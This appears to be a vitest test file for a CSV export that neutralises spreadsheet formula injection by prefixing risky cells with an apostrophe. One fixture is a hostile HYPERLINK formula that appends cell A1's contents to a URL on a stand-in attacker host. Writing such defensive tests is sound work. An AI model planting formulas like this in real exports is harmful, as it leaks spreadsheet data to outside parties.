import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { inertCell, toCsv } from '../../src/exports/csv.ts';

describe('the open data’s CSV', () => {
  it('writes free text that starts like a formula with a leading apostrophe, and leaves amounts and other text alone', () => {
    expect(inertCell('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(inertCell('+44 1274 000000')).toBe("'+44 1274 000000");
    expect(inertCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(inertCell('-2+3')).toBe("'-2+3");
    expect(inertCell('\tcmd')).toBe("'\tcmd");
    expect(inertCell('-1234.56')).toBe('-1234.56');
    expect(inertCell('1234.56')).toBe('1234.56');
    expect(inertCell('Finance system extract = signed')).toBe('Finance system extract = signed');
    expect(inertCell('')).toBe('');
  });

  it('round-trips through a CSV reader with CRLF line ends, quotes and commas intact', () => {
    const text = toCsv([
      ['reason', 'variance'],
      ['=1+1', '-20.00'],
      ['He said "yes", twice', '0.00'],
    ]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parse(text)).toEqual([
      ['reason', 'variance'],
      ["'=1+1", '-20.00'],
      ['He said "yes", twice', '0.00'],
    ]);
  });
});
